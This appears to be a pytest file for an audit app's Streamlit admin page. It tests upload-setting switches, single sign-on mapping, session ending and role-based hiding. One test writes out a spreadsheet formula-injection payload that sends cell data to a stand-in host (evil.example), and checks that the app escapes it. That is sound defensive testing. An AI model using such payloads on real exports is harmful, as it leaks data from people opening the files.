"""AppTest of the admin page: the TorchScript-upload switch (logged), single sign-on identity mapping and
sign-in sessions, each through its service; other roles see none of it."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from audit.services.governance import auth, identities, sessions, settings
from audit.services.governance.audit_trail import recent_entries

ROOT = Path(__file__).resolve().parents[2]
ADMIN = auth.Principal("ada", "admin")


def _page(principal: auth.Principal) -> AppTest:
    at = AppTest.from_file(str(ROOT / "pages/admin.py"), default_timeout=60)
    at.session_state["principal"] = principal
    return at


def _by_label(widgets, start: str):
    return next(w for w in widgets if w.label.startswith(start))


@pytest.fixture()
def users(audit_home):
    auth.create_user("ada", "admin-pass-123", "admin")
    return auth.create_user("ann", "auditor-pass-123", "auditor")


def test_the_torchscript_switch_is_changed_and_logged(users):
    at = _page(ADMIN).run()
    assert not at.exception, at.exception
    switch = _by_label(at.toggle, "Accept TorchScript uploads")
    assert switch.value is False
    switch.set_value(True).run()
    assert not at.exception
    assert settings.setting_value(settings.TORCHSCRIPT_UPLOADS) is True
    entry = next(e for e in recent_entries(5) if e["action"] == "setting.change")
    assert entry["actor"] == "ada" and entry["subject"] == settings.TORCHSCRIPT_UPLOADS
    assert _by_label(at.toggle, "Accept TorchScript uploads").value is True


def test_an_identity_is_mapped_and_unmapped_on_the_page(users):
    at = _page(ADMIN).run()
    _by_label(at.text_input, "Issuer").input("https://id.example.org")
    _by_label(at.text_input, "Subject or e-mail").input("sub-7")
    _by_label(at.selectbox, "Local user").set_value("ann")
    _by_label(at.button, "Map identity").click().run()
    assert not at.exception, at.exception
    assert [(r["value"], r["username"]) for r in identities.list_identities(actor=ADMIN)] == [("sub-7", "ann")]
    _by_label(at.button, "Unmap").click().run()
    assert not at.exception
    assert identities.list_identities(actor=ADMIN) == []


def test_an_admin_ends_a_session_on_the_page(users):
    cookie = sessions.create_session(users)
    at = _page(ADMIN).run()
    assert "ann" in at.dataframe[1].value["username"].tolist()
    _by_label(at.button, "End session").click().run()
    assert not at.exception, at.exception
    assert sessions.resolve_session(cookie) is None


@pytest.mark.parametrize("role", ["viewer", "auditor"])
def test_other_roles_see_no_admin_controls(users, role):
    at = _page(auth.Principal("someone", role)).run()
    assert not at.exception, at.exception
    infos = " ".join(i.value for i in at.info)
    for what in ("manage users", "sign-in sessions", "single sign-on", "installation settings"):
        assert what in infos
    assert not at.toggle and not [b for b in at.button if b.label in ("End session", "Map identity", "Unmap")]
    assert not [b for b in at.get("download_button")]


def test_the_trail_is_read_by_admins_only_and_formulas_are_neutralised(users):
    """Issue 22, hole 6 and the trail's read check: a username typed as a spreadsheet formula reaches the
    admin's table and its CSV download with a leading apostrophe; viewers and auditors see no entries."""
    from audit.services.governance import throttle

    throttle.reset()
    attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with pytest.raises(auth.AuthError):
        auth.authenticate(attack, "whatever-password", client="203.0.113.5")
    at = _page(ADMIN).run()
    assert not at.exception, at.exception
    table = at.dataframe[-1].value
    assert "'" + attack in table["actor"].tolist() and attack not in table["actor"].tolist()
    for role in ("viewer", "auditor"):
        at = _page(auth.Principal("someone", role)).run()
        assert not at.exception, at.exception
        assert "Only administrators read the audit trail." in [i.value for i in at.info]
        assert not [d for d in at.dataframe if "actor" in d.value.columns]


def test_the_import_path_switch_is_changed_and_logged(users):
    at = _page(ADMIN).run()
    assert not at.exception, at.exception
    switch = _by_label(at.toggle, "Accept architectures named by import path")
    assert switch.value is False
    switch.set_value(True).run()
    assert not at.exception
    assert settings.setting_value(settings.IMPORT_PATH_UPLOADS) is True
    entry = next(e for e in recent_entries(5) if e["action"] == "setting.change")
    assert entry["actor"] == "ada" and entry["subject"] == settings.IMPORT_PATH_UPLOADS
